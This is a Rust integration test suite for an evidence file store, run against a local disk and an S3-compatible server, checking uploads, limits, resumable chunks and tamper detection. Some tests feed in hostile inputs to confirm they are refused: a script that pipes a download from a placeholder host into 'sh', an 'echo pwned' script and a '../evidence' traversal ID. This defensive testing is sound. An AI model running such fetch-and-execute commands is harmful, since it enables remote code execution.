//! The evidence store against real backends: a temp directory and a real S3-compatible server
//! (moto, started by `scripts/s3-test-server`). Every case runs on both.

mod support;

use bytes::Bytes;
use futures_util::StreamExt;
use spotcheck_evidence::{EvidenceError, StoredEvidence};
use support::{Backend, body, jpeg, mp4, mp4_head, pdf, png, sha256sum};

const MIB: usize = 1024 * 1024;

async fn read_all(store: &spotcheck_evidence::EvidenceStore, key: &str) -> Vec<u8> {
    let mut reader = store.read(key).await.unwrap();
    let mut out = Vec::with_capacity(reader.size as usize);
    while let Some(chunk) = reader.stream.next().await {
        out.extend_from_slice(&chunk.unwrap());
    }
    assert_eq!(out.len() as u64, reader.size);
    out
}

fn assert_record(r: &StoredEvidence, bytes: &[u8], mime: &str, ext: &str) {
    assert_eq!(r.size, bytes.len() as u64);
    assert_eq!(r.sha256, sha256sum(bytes), "SHA-256 as sha256sum computes it");
    assert_eq!((r.mime.as_str(), r.ext.as_str()), (mime, ext));
    assert!(
        r.key.starts_with("evidence/") && r.key.len() == "evidence/2026/11/27/".len() + 36,
        "{}",
        r.key
    );
}

async fn round_trip_of_real_files(b: Backend) {
    let store = b.open();
    let files = [
        (jpeg(40_000), "image/jpeg", "jpg"),
        (png(300, 200), "image/png", "png"),
        (pdf(), "application/pdf", "pdf"),
        (mp4(200_000), "video/mp4", "mp4"),
        // Larger than one part: goes through the multipart path and the create-only copy.
        (mp4(19 * MIB + 12_345), "video/mp4", "mp4"),
    ];
    for (bytes, mime, ext) in files {
        // Odd chunk sizes, as a network delivers them.
        let r = store.store(body(&bytes, 7_777)).await.unwrap();
        assert_record(&r, &bytes, mime, ext);
        assert_eq!(read_all(&store, &r.key).await, bytes);
        assert_eq!(store.size(&r.key).await.unwrap(), bytes.len() as u64);
        assert!(store.verify(&r.key, &r.sha256).await.unwrap());
        assert!(store.verify(&r.key, &r.sha256.to_uppercase()).await.unwrap());
        assert!(!store.verify(&r.key, &sha256sum(b"something else")).await.unwrap());
    }
    // Nothing but the five files: no staging objects, no unfinished multipart uploads.
    let left = b.leftovers();
    assert_eq!(left.len(), 5, "{left:?}");
    assert!(left.iter().all(|k| k.starts_with("evidence/")), "{left:?}");
}

async fn a_script_named_jpg_is_refused(b: Backend) {
    let store = b.open();
    let script = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n".repeat(20);
    let err = store.store(body(&script, 100)).await.unwrap_err();
    assert!(matches!(err, EvidenceError::TypeNotAllowed { .. }), "{err:?}");
    let message = err.to_string();
    assert!(
        message.contains("不是允许的证据类型") && message.contains("脚本"),
        "{message}"
    );
    assert!(message.contains("与文件名无关"), "{message}");
    // A zip (an archive could hold anything) and an empty body are refused too.
    let zip = b"PK\x03\x04\x14\x00\x00\x00\x08\x00junkjunkjunk".to_vec();
    assert!(matches!(
        store.store(body(&zip, 5)).await,
        Err(EvidenceError::TypeNotAllowed { .. })
    ));
    assert!(matches!(store.store(body(&[], 5)).await, Err(EvidenceError::Empty)));
    assert_eq!(b.leftovers(), Vec::<String>::new());
}

async fn the_size_limit_aborts_and_leaves_nothing(b: Backend) {
    // Over the limit within the first part: refused before anything is written.
    let small = b.with_limit(10_000);
    let err = small.store(body(&jpeg(10_001), 1_000)).await.unwrap_err();
    assert!(matches!(err, EvidenceError::TooLarge { limit: 10_000 }), "{err:?}");
    assert!(err.to_string().contains("大小上限"), "{err}");
    small
        .store(body(&jpeg(10_000), 1_000))
        .await
        .expect("exactly at the limit is fine");

    // Over the limit after several parts went out: the multipart upload is aborted.
    let store = b.with_limit(20 * MIB as u64);
    let total = 30 * MIB as u64;
    let head = mp4_head(total);
    let chunks = std::iter::once(Bytes::from(head.clone()))
        .chain(std::iter::repeat_n(Bytes::from(vec![7u8; MIB]), 30))
        .map(Ok::<_, std::io::Error>);
    let err = store.store(futures_util::stream::iter(chunks)).await.unwrap_err();
    assert!(matches!(err, EvidenceError::TooLarge { .. }), "{err:?}");
    let left = b.leftovers();
    assert_eq!(left.len(), 1, "only the 10,000-byte file: {left:?}");
}

async fn a_broken_body_leaves_nothing(b: Backend) {
    let store = b.open();
    let bytes = mp4(12 * MIB);
    let mut pieces: Vec<Result<Bytes, std::io::Error>> =
        bytes.chunks(MIB).map(|c| Ok(Bytes::copy_from_slice(c))).collect();
    pieces.truncate(10);
    pieces.push(Err(std::io::Error::new(
        std::io::ErrorKind::ConnectionReset,
        "connection reset",
    )));
    let err = store.store(futures_util::stream::iter(pieces)).await.unwrap_err();
    assert!(matches!(err, EvidenceError::Body(_)), "{err:?}");
    assert!(err.to_string().contains("上传中断"), "{err}");
    assert_eq!(b.leftovers(), Vec::<String>::new());
}

async fn two_uploads_never_share_a_key(b: Backend) {
    let store = b.open();
    let bytes = png(20, 20);
    let mut keys = std::collections::HashSet::new();
    for _ in 0..5 {
        let r = store.store(body(&bytes, 1_000)).await.unwrap();
        assert!(keys.insert(r.key.clone()), "key {} given twice", r.key);
    }
    assert_eq!(b.leftovers().len(), 5);
}

async fn create_only_refuses_an_existing_key(b: Backend) {
    let store = b.open();
    let key = "evidence/2026/11/27/0b7c6a3e-8f5e-4f1e-9c3a-1d2e3f405060";
    let first = pdf();
    let r = store.store_at(key, body(&first, 100)).await.unwrap();
    assert_eq!(r.key, key);
    // Small (one create-only PUT) and large (multipart, then create-only copy) both refused.
    for second in [jpeg(5_000), mp4(10 * MIB)] {
        let err = store.store_at(key, body(&second, MIB)).await.unwrap_err();
        assert!(matches!(err, EvidenceError::AlreadyExists { .. }), "{err:?}");
        assert!(err.to_string().contains("不能覆盖"), "{err}");
    }
    assert_eq!(read_all(&store, key).await, first, "the first file is untouched");
    assert_eq!(b.leftovers(), vec![key.to_string()], "no staging object left");
    // Keys this crate does not give out are not readable.
    let err = store.read("uploads/x/session.json").await.unwrap_err();
    assert!(matches!(err, EvidenceError::InvalidKey { .. }), "{err:?}");
    let err = store
        .read("evidence/2026/11/27/9b7c6a3e-8f5e-4f1e-9c3a-1d2e3f405060")
        .await
        .unwrap_err();
    assert!(matches!(err, EvidenceError::NotFound { .. }), "{err:?}");
}

async fn resumable_upload_across_two_servers(b: Backend) {
    // Two stateless servers on one store: chunks go to either.
    let (one, two) = (b.open(), b.open());
    let bytes = mp4(13 * MIB + 4_321);
    let chunk = 4 * MIB;
    let pieces: Vec<(u64, Bytes)> = bytes
        .chunks(chunk)
        .enumerate()
        .map(|(i, c)| ((i * chunk) as u64, Bytes::copy_from_slice(c)))
        .collect();
    assert_eq!(pieces.len(), 4);

    let id = one.begin_upload(Some(bytes.len() as u64)).await.unwrap();
    let status = two.upload_status(&id).await.unwrap();
    assert_eq!((status.received, status.expected_size), (0, Some(bytes.len() as u64)));

    // Out of order: the third chunk first; nothing contiguous yet.
    two.put_chunk(&id, pieces[2].0, pieces[2].1.clone()).await.unwrap();
    assert_eq!(one.upload_status(&id).await.unwrap().received, 0);
    one.put_chunk(&id, pieces[0].0, pieces[0].1.clone()).await.unwrap();
    assert_eq!(two.upload_status(&id).await.unwrap().received, chunk as u64);
    // The connection drops; the client resends the first chunk (its answer was lost).
    two.put_chunk(&id, pieces[0].0, pieces[0].1.clone()).await.unwrap();
    one.put_chunk(&id, pieces[1].0, pieces[1].1.clone()).await.unwrap();
    assert_eq!(two.upload_status(&id).await.unwrap().received, 3 * chunk as u64);

    // Finishing early says where to resume.
    let err = one.finish_upload(&id).await.unwrap_err();
    assert!(
        matches!(err, EvidenceError::UploadIncomplete { received, .. } if received == 3 * chunk as u64),
        "{err:?}"
    );
    assert!(
        err.to_string().contains(&format!("从第 {} 字节处继续", 3 * chunk)),
        "{err}"
    );

    // A chunk beyond the announced size is refused.
    let err = one
        .put_chunk(&id, bytes.len() as u64 - 10, Bytes::from_static(&[0; 20]))
        .await
        .unwrap_err();
    assert!(matches!(err, EvidenceError::BadChunk(_)), "{err:?}");

    // The last chunk, then a resent middle chunk split differently (overlapping what is there).
    two.put_chunk(&id, pieces[3].0, pieces[3].1.clone()).await.unwrap();
    let overlap = Bytes::copy_from_slice(&bytes[chunk + 100..2 * chunk + 100]);
    one.put_chunk(&id, (chunk + 100) as u64, overlap).await.unwrap();
    assert_eq!(one.upload_status(&id).await.unwrap().received, bytes.len() as u64);

    let r = two.finish_upload(&id).await.unwrap();
    assert_record(&r, &bytes, "video/mp4", "mp4");
    assert_eq!(read_all(&one, &r.key).await, bytes);
    // Finishing again (the answer was lost) gives the same record; the status says finished.
    assert_eq!(one.finish_upload(&id).await.unwrap(), r);
    let status = one.upload_status(&id).await.unwrap();
    assert_eq!(status.finished.as_ref(), Some(&r));
    // The chunks are gone: only the evidence and the small result record remain.
    let left = b.leftovers();
    assert_eq!(
        left,
        vec![r.key.clone(), format!("uploads/{id}/result.json")],
        "{left:?}"
    );
    // The session is closed for chunks.
    let err = one.put_chunk(&id, 0, Bytes::from_static(b"x")).await.unwrap_err();
    assert!(matches!(err, EvidenceError::UploadNotFound { .. }), "{err:?}");
}

async fn resumable_upload_checks_type_and_unknown_ids(b: Backend) {
    let store = b.open();
    // Without an announced size; small, so finish writes with one create-only PUT.
    let id = store.begin_upload(None).await.unwrap();
    let script = b"#!/bin/bash\necho pwned\n".repeat(100);
    store
        .put_chunk(&id, 1000, Bytes::copy_from_slice(&script[1000..]))
        .await
        .unwrap();
    store
        .put_chunk(&id, 0, Bytes::copy_from_slice(&script[..1000]))
        .await
        .unwrap();
    let err = store.finish_upload(&id).await.unwrap_err();
    assert!(matches!(err, EvidenceError::TypeNotAllowed { .. }), "{err:?}");
    assert!(
        b.leftovers().iter().all(|k| !k.starts_with("evidence/")),
        "nothing stored as evidence"
    );

    // A gap: finish refuses, status shows the contiguous prefix.
    let id = store.begin_upload(None).await.unwrap();
    let image = png(64, 64);
    store
        .put_chunk(&id, 0, Bytes::copy_from_slice(&image[..1000]))
        .await
        .unwrap();
    store
        .put_chunk(&id, 2000, Bytes::copy_from_slice(&image[2000..]))
        .await
        .unwrap();
    assert_eq!(store.upload_status(&id).await.unwrap().received, 1000);
    assert!(matches!(
        store.finish_upload(&id).await,
        Err(EvidenceError::UploadIncomplete { received: 1000, .. })
    ));
    store
        .put_chunk(&id, 1000, Bytes::copy_from_slice(&image[1000..2000]))
        .await
        .unwrap();
    let r = store.finish_upload(&id).await.unwrap();
    assert_record(&r, &image, "image/png", "png");

    for bad in ["not-an-id", "0b7c6a3e-8f5e-4f1e-9c3a-1d2e3f405060", "../evidence"] {
        let err = store.upload_status(bad).await.unwrap_err();
        assert!(matches!(err, EvidenceError::UploadNotFound { .. }), "{bad}: {err:?}");
    }
    // A size over the limit is refused at begin.
    let err = b.with_limit(1_000).begin_upload(Some(1_001)).await.unwrap_err();
    assert!(matches!(err, EvidenceError::TooLarge { .. }), "{err:?}");
}

async fn abandoned_uploads_are_removed_and_evidence_is_not(b: Backend) {
    let store = b.open();
    let r = store.store(body(&pdf(), 100)).await.unwrap();
    let id = store.begin_upload(None).await.unwrap();
    store.put_chunk(&id, 0, Bytes::from(jpeg(3_000))).await.unwrap();
    assert_eq!(
        store
            .remove_abandoned(std::time::Duration::from_secs(3600))
            .await
            .unwrap(),
        0
    );
    assert_eq!(store.remove_abandoned(std::time::Duration::ZERO).await.unwrap(), 2);
    assert_eq!(b.leftovers(), vec![r.key.clone()]);
    assert!(store.verify(&r.key, &r.sha256).await.unwrap());
}

macro_rules! on_both_backends {
    ($($case:ident),* $(,)?) => {
        mod local {
            $(
                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
                async fn $case() {
                    super::$case(super::support::local()).await
                }
            )*
        }
        mod s3 {
            $(
                #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
                async fn $case() {
                    super::$case(super::support::s3()).await
                }
            )*
        }
    };
}

on_both_backends!(
    round_trip_of_real_files,
    a_script_named_jpg_is_refused,
    the_size_limit_aborts_and_leaves_nothing,
    a_broken_body_leaves_nothing,
    two_uploads_never_share_a_key,
    create_only_refuses_an_existing_key,
    resumable_upload_across_two_servers,
    resumable_upload_checks_type_and_unknown_ids,
    abandoned_uploads_are_removed_and_evidence_is_not,
);

/// Tampering with a file on disk is caught by `verify`.
#[tokio::test]
async fn verify_catches_a_changed_file() {
    let b = support::local();
    let store = b.open();
    let r = store.store(body(&png(50, 50), 500)).await.unwrap();
    let path = b.dir.as_ref().unwrap().path().join("evidence").join(&r.key);
    let mut bytes = std::fs::read(&path).unwrap();
    let last = bytes.len() - 20;
    bytes[last] ^= 1;
    std::fs::write(&path, bytes).unwrap();
    assert!(!store.verify(&r.key, &r.sha256).await.unwrap());
}

/// axum runs handlers on a multi-threaded runtime: every future of the API must be `Send`.
#[test]
fn the_api_futures_are_send() {
    fn send<T: Send>(_: T) {}
    let b = support::local();
    let store = b.open();
    send(store.store(body(b"x", 1)));
    send(store.read("k"));
    send(store.verify("k", "h"));
    send(store.begin_upload(None));
    send(store.put_chunk("u", 0, Bytes::new()));
    send(store.upload_status("u"));
    send(store.finish_upload("u"));
    send(store.remove_abandoned(std::time::Duration::ZERO));
}
